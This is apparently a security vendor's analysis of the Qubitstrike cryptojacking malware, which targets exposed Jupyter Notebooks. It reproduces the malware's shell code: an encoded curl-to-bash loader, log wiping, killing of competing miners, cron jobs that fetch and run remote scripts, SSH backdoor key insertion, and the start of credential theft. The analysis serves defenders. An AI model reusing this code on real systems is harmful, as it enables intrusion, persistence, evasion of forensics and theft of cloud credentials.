Skip to content
Get a Demo
    curve design on left cloud image

    Qubitstrike - An Emerging Malware Campaign TargetingJupyter Notebooks

    Qubitstrike Discord C2 operation


    • First reported case of Codeberg code hostingplatform used to distribute malware
    • Attackers continue trend of leveraging Discord for Command and Control
    • Qubitstrike attackers specifically seeking Cloud Service Provider credentials
    • Cado researchers observed attempts by the attackers to utilise stolen CSP credentials for further exploitation
    • Jupyter Notebooks exploited for initial access but the malware also supports SSH propagation


    Cado SecurityLabs researchers have discovered a new cryptojacking campaign targeting exposed Jupyter Notebooks. The malware includes relatively sophisticated command and control (C2) infrastructure, with the controller using Discord’s bot functionality to issue commands on compromised nodes, and monitor the progress of the campaign.

    After successful compromise, Qubitstrike hunts for a number of hardcoded credential files for popular cloud services (including AWS and Google Cloud) and exfiltrates these via the Telegram Bot API. Cado researchers were alerted to the use of one such credential file, demonstrating the attacker’s intent to pivot to cloud resources, after using Qubitstrike to retrieve the appropriate credentials.

    The payloads for the Qubitstrike campaign are all hosted on - an alternative Git hosting platform, providing much of the same functionality as Github. This is the first time Cado researchers have encountered this platform in an active malware campaign. It’s possible that Codeberg’s up-and-coming status makes it attractive as a hosting service for malware developers. Cado Security Labs will continue to monitor attacker telemetry to establish whether this is a growing trend.

    Initial Access

    The malware was first observed on Cado’s high interaction Jupyter honeypot. An IP inTunis connected to theJupyter instance on the honeypot machine and opened a Bash instance using Jupyter’s terminal feature. Following this, they ran the following commands to compromise the machine:

    sudo su
    ls -rf
    echo "Y3VybCAtbyAvdG1wL20uc2ggaHR0cHM6Ly9jb2RlYmVyZy5vcmcvbTRydDEvc2gvcmF3L2JyYW5jaC9tYWluL21pLnNoIDsgY2htb2QgK3ggL3RtcC9tLnNoIDsgL3RtcC9tLnNoIDsgcm0gLWYgL3RtcC9tLnNoIDsgaGlzdG9yeSAtYyAK" | base64 -d | bash

    Given the commands were run over a span of 195 seconds, this leads us to believe that they were performed manually. Likely, the operator of the malware had discovered our honeypot via a service such as Shodan, which is commonly used to discover vulnerable services by threat actors.

    The history indicates that the attacker firstinspected what was available on the machine - running lscpu to see what CPU it wasrunning and sudo su to determine if root access was possible.

    The actor then looks at the files in the current directory, likely to spot any credential files or indicators of the system’s purpose that have been left around. Cado’s high interaction honeypot system features bait credential files containing canary tokens for various services such as AWS, which caught the attackers attention.

    The attacker then confirms curl is present on the system, and runs a base64 encoded command, which decodes to:

    <code lang="bash" class="language-bash">curl -o /tmp/ ; chmod +x /tmp/ ; /tmp/ ; rm -f /tmp/ ; history -c</code>

    This downloads and executes the main script used by the attacker. The purpose of base64 encoding the curl command is likely to hide the true purpose of the script from detection.

    After achieving initial access via exploitation of a Jupyter Notebook, and retrieving the primary payload viathe method described above, is executed on the host and kickstarts the Qubitstrike execution chain.

    As the name suggests, is a shell script and is responsible for the following:

    • Retrieving and executing the XMRig miner
    • Registering cron persistence and inserting a attacker-controlled SSH key
    • Retrieving and installing the Diamorphine rootkit
    • Exfiltrating credentials from the host and
    • Propagating the malware to related hosts via SSH

    As is common with these types of script-based cryptojacking campaigns, the techniques employed are often stolen or repurposed from similar malware samples, making attribution difficult. For this reason, the following analysis will highlight code that is either unique to Qubitstrike or beneficial to those responding to Qubitstrike compromises.

    System Preparation begins by conducting a number of system preparation tasks, allowing the operator to evade detection and execute their miner without interference. The first such task is to rename the binaries for various data transfer utilities,such as curl and wget - a common technique in these types of campaigns. It’s assumed that the intention is to avoid triggering detections for use of these utilities in the target environment, and also to prevent other users from accessing them. This technique has previously been observed by Cado researchers in campaigns by the threat actor WatchDog.

    clear ; echo -e "$Bnr\n Replacing WGET, CURL ...\n$Bnr" ; sleep 1s
    if [[ -f /usr/bin/wget ]] ; then mv /usr/bin/wget /usr/bin/zget ; fi
    if [[ -f /usr/bin/curl ]] ; then mv /usr/bin/curl /usr/bin/zurl ; fi
    if [[ -f /bin/wget ]] ; then mv /bin/wget /bin/zget ; fi
    if [[ -f /bin/curl ]] ; then mv /bin/curl /bin/zurl ; fi

    if [[ -x "$(command -v zget)" ]] ; then req="zget -q -O -" ; DLr="zget -O";
    elif [[ -x "$(command -v wget)" ]] ; then req="wget -q -O -" ; DLr="wget -O";
    elif [[ -x "$(command -v zurl)" ]] ; then req="zurl" ; DLr="zurl -o";
    elif [[ -x "$(command -v curl)" ]] ; then req="curl" ; DLr="curl -o";
    else echo "[!] There no downloader Found";

    Example code snippet demonstrating renamed data transfer utilities will also iterate through a hardcoded list of process names and attempt to kill the associated processes. This is likely to thwart any mining operations by competitors who may have previously compromised the system.

    list1=(\.Historys neptune xm64 xmrig suppoieup '*.jpg' '*.jpeg' '/tmp/*.jpg' '/tmp/*/*.jpg' '/tmp/*.xmr' '/tmp/*xmr' '/tmp/*/*xmr' '/tmp/*/*/*xmr' '/tmp/*nanom' '/tmp/*/*nanom' '/tmp/*dota' '/tmp/dota*' '/tmp/*/dota*' '/tmp/*/*/dota*','chron-34e2fg')
    list2=(xmrig xm64 xmrigDaemon nanominer lolminer JavaUpdate donate python3.2sourplum dota3 dota)
    list3=('/tmp/sscks' './crun' ':3333' ':5555' 'log_' 'systemten' 'netns' 'voltuned' 'darwin' '/tmp/dl' '/tmp/ddg' '/tmp/pprt' '/tmp/ppol' '/tmp/65ccE' '/tmp/jmx*' '/tmp/xmr*' '/tmp/nanom*' '/tmp/rainbow*' '/tmp/*/*xmr' 'http_0xCC030' 'http_0xCC031' 'http_0xCC033' 'C4iLM4L' '/boot/vmlinuz' 'nqscheduler' '/tmp/java' '' 'kthrotlds' 'ksoftirqds' 'netdns' 'watchdogs' '/dev/shm/' 'kinsing' '/tmp/' '/tmp/zmcat' '/tmp/udevd' 'sustse' '' '' '' '' 'luk-cpu' 'ficov' '' '' 'nullcrew' 'xmrigDaemon' 'xmrig' 'lolminer' 'xmrigMiner' 'xiaoyao' 'kernelcfg' 'xiaoxue' 'kernelupdates' 'kernelupgrade' '' '' '' '' '' '' '' '' '' '' '' '' '' '' '' '' '')
    list4=(kworker34 kxjd libapache Loopback lx26 mgwsl minerd minexmr mixnerdx mstxmr nanoWatch nopxi NXLAi performedl polkitd pythno qW3xT.2 sourplum stratum sustes wnTKYg XbashY XJnRj xmrig xmrigDaemon xmrigMiner ysaydh zigw lolm nanom nanominer lolminer)

    if type killall > /dev/null 2>&1; then
    for k1 in "${list1[@]}" ; do killall $k1 ; done
    for k2 in "${list2[@]}" ; do pgrep $k2 | xargs -I % kill -9 % ; done
    for k3 in "${list3[@]}" ; do ps auxf | grep -v grep | grep $k3 | awk '{print $2}' | xargs -I % kill -9 % ; done
    for k4 in "${list4[@]}" ; do pkill -f $k4 ; doneExample of killing competing miners

    Similarly, the sample uses the netstat command and a hardcoded list of IP/port pairs to terminate any existing network connections to these IPs. Additional research on the IPs themselves suggests that they’ve been previously implicated in cryptojacking operations.

    net_kl() {
    list=(':1414' '' ':143' ':3389' ':4444' ':5555' ':6666' ':6665' ':6667' ':7777' ':3347' ':14444' ':14433' ':13531' ':15001' ':15002')
    for k in "${list[@]}" ; do netstat -anp | grep $k | awk '{print $7}' | awk -F'[/]' '{print $1}' | grep -v "-" | xargs -I % kill -9 % ; done
    netstat -antp | grep '' | grep 'ESTABLISHED\|SYN_SENT' | awk '{print $7}' | sed -e "s/\/.*//g" | xargs -I % kill -9 %
    netstat -antp | grep '' | grep 'ESTABLISHED\|SYN_SENT' | awk '{print $7}' | sed -e "s/\/.*//g" | xargs -I % kill -9 %
    netstat-antp | grep '' | grep 'ESTABLISHED\|SYN_SENT' | awk '{print $7}' | sed -e "s/\/.*//g" | xargs -I % kill -9 %
    netstat -antp | grep '' | grep 'ESTABLISHED\|SYN_SENT' | awk '{print $7}' | sed -e "s/\/.*//g" | xargs -I % kill -9 %
    netstat -antp | grep '' | grep 'ESTABLISHED\|SYN_SENT' | awk '{print $7}' | sed -e "s/\/.*//g" | xargs -I % kill -9 %

    Using netstat to terminate open network connections

    Furthermore, the sample includes a function named log_f() which performs some antiforensics measures by deleting various Linux log files when invoked. These include /var/log/secure, which stores successful/unsuccessful authentication attempts and /var/log/wtmp, which stores a record of system-wide logins and logouts.

    log_f() {
    logs=(/var/log/wtmp /var/log/secure /var/log/cron /var/log/iptables.log /var/log/auth.log /var/log/cron.log /var/log/httpd /var/log/syslog /var/log/wtmp /var/log/btmp /var/log/lastlog)
    for Lg in "${logs[@]}" ; do echo 0> $Lg ; done

    Qubitstrike Linux log file antiforensics

    Retrieving XMRig

    After performing some basic system preparation operations, retrieves a version of XMRig hosted in the same Codeberg repository as The miner itself is hosted as a tarball, which is unpacked and saved locally as python-dev. This name is likely chosen to make the miner appear innocuous in process listings.

    After unpacking, the miner is executed in /usr/share/.LQvKibDTq4 if is running as a regular unprivilegeduser, or /tmp/.LQvKibDTq4 if is running as root.

    miner() {
    if [[ ! $DLr -eq 0 ]] ; then
    $DLr $DIR/xm.tar.gz $miner_url > /dev/null 2>&1
    tar -xf $DIR/xm.tar.gz -C $DIR
    rm -rf $DIR/xm.tar.gz > /dev/null 2>&1
    chmod +x $DIR/*
    $DIR/python-dev -B -o $pool -u $wallet -p $client --donate-level 1 --tls --tls-fingerprint=420c7850e09b7c0bdcf748a7da9eb3647daf8515718f36d9ccfdd6b9ff834b14 --max-cpu-usage 90
    if [[ -x "$(command -v python3)" ]] ; then
    python3 -c "import urllib.request; urllib.request.urlretrieve('$miner_url', '$DIR/xm.tar.gz')"if [ -s $DIR/xm.tar.gz ] ; then
    tar -xf $DIR/xm.tar.gz -C $DIR
    rm -rf $DIR/xm.tar.gz > /dev/null 2>&1
    chmod +x $DIR/python-dev
    $DIR/$miner_name -B -o $pool -u $wallet -p $client --donate-level 1 --tls --tls-fingerprint=420c7850e09b7c0bdcf748a7da9eb3647daf8515718f36d9ccfdd6b9ff834b14 --max-cpu-usage 90

    Qubitstrike miner execution code

    The malware uses a hardcoded mining pool and wallet ID, which can be found in the IoCs section.

    Registering Persistence utilises cron for persistence on the target host. The malware writes four separate cronjobs, apache2, apache2.2, netns and netns2, which are responsible for:

    • executing the miner at reboot,
    • executing an additional payload (kthreadd) containing the competitor-killing code mentioned previously and
    • executing on a daily basis

    cron_set() {mkdir -p $killerd
    if [[ ! $DLr -eq 0 ]] ; then
    $DLr $killerd/kthreadd $killer_url
    chmod +x $killerd/kthreadd
    chattr -R -ia /etc/cron.d
    echo "@reboot root $DIR/$miner_name -c $DIR/config.json" > /etc/cron.d/apache2
    echo "@daily root $req | bash" > /etc/cron.d/apache2.2
    echo -e "*/1 * * * * root /usr/share/.28810/kthreadd" > /etc/cron.d/netns
    echo -e "0 0 */2 * * * root curl | bash" > /etc/cron.d/netns2
    cat /etc/crontab | grep -e "" | grep -v grep
    if [ $? -eq 0 ]; then
    echo "0 * * * * wget -O- | bash > /dev/null 2>&1" >> /etc/crontab
    echo "0 0 */3 * * * $req | bash > /dev/null 2>&1" >> /etc/crontab
    chattr -R +ia /etc/cron.d

    Cron persistence code examplesAs mentioned previously, will also insert an attacker-controlled SSH key, effectively creating a persistent backdoor to the compromised host. The malware will also override various SSH server configurations options, ensuring that root login and public key authentication are enabled, and that the SSH server is listening on port 22.

    echo"${RSA}" >>/root/.ssh/authorized_keys
    chattr -aui /etc/ssh >/dev/null 2>&1
    chattr -aui /etc/ssh/sshd_config /etc/hosts.deny /etc/hosts.allow >/dev/null 2>&1
    echo >/etc/hosts.deny
    echo >/etc/hosts.allow
    mkdir -p /etc/ssh
    sed -i -e 's/Port 78//g' -e 's/\#Port 22/Port 22/g' -e 's/\#PermitRootLogin/PermitRootLogin/g' -e 's/PermitRootLogin no/PermitRootLogin yes/g' -e 's/PubkeyAuthentication no/PubkeyAuthentication yes/g' -e 's/PasswordAuthentication yes/PasswordAuthentication no/g' /etc/ssh/sshd_config
    chmod 600 /etc/ssh/sshd_config

    Inserting an attacker-controlled SSH key and updating sshd_config

    Credential Exfiltration

    One of the most notable aspects of Qubitstrike is the malware’s ability to hunt for credentialfiles on the target host and exfiltrate these back to the attacker via the Telegram Bot API. Notably, the malware specifically searches for AWS and Google Cloud credential files, suggesting targeting of these Cloud Service Providers (CSPs) by the operators.

    DATA_STRING="IP: $client | WorkDir: $DIR | User: $USER | cpu(s): $cpucount | SSH: $SSH_Ld | Miner: $MINER_stat"
